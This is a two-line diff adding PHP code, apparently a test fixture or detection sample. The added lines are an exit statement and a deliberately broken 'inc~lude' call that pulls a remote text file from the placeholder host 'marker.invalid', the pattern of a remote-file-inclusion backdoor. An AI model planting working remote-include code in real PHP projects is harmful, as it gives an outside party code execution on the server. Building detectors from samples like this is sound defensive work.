@@ -1,0 +1,2 @@
+<?php exit; ?>
+<?php inc~lude('http://marker.invalid/m.txt');
